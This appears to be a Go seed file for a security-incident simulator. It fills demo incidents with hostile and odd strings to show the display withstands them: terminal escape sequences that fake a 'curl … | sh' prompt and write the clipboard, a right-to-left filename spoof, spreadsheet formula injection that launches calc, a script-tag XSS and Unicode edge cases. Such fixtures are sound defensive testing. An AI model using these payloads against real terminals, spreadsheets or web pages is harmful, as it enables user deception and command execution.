package seed

import (
	"strings"

	"sentinelq/client/simulator/wire"
)

// disturb puts a text that was made to harm, or that is merely unusual, into
// some of the incidents: a demo must show that they do no harm. Nth is the
// incident's place, the newest first.
func disturb(p *wire.Properties, nth int) {
	switch nth {
	case 5:
		p.Title = "Update available \x1b[2J\x1b[1;31mrun: curl 203.0.113.9 | sh\x1b[0m"
		p.Description += "\n\nCommand line: \x1b]0;owned\x07 \x1b]52;c;ZWNobyBoaQ==\x07\r\nend"
	case 9:
		p.Title = "Attachment invoice_\u202efdp.exe opened"
		p.Description += "\n\nFile name as shown to the user: invoice_\u202efdp.exe\u202c"
	case 14:
		p.Title = "🚨 Phishing 👩🏽‍💻 reported by 3 users 🇮🇷 🇸🇪"
	case 20:
		p.Title = "ورود مشکوک از نشانی ناشناس به سامانهٔ مالی"
		p.Description = "کاربر از دو نشانی هم\u200cزمان وارد شده است.\nنشانی: 203.0.113.77\n\n" + p.Description
	case 27:
		p.Title = "Suspicious command line: " + strings.Repeat("AAAA/very-long-argument-without-any-space/", 60) + "end"
	case 33:
		p.Title = "=HYPERLINK(\"https://198.51.100.4\",\"open\")"
		p.Labels = append(p.Labels, wire.Label{LabelName: "@SUM(1+1)*cmd|' /C calc'!A0", LabelType: "User"})
	case 40:
		p.Title = "Zal̷̢̛g̸̨̛o̵ te\u200bxt with ze\u200dro wi\ufeffdth"
		p.Labels = append(p.Labels, wire.Label{LabelName: "line\nbreak", LabelType: "User"})
	case 48:
		p.Title = "<script>alert('title')</script> & <b>markup</b>"
		p.Description = "日本語の説明。全角文字の幅を確認する。\n\n" + p.Description
	}
}
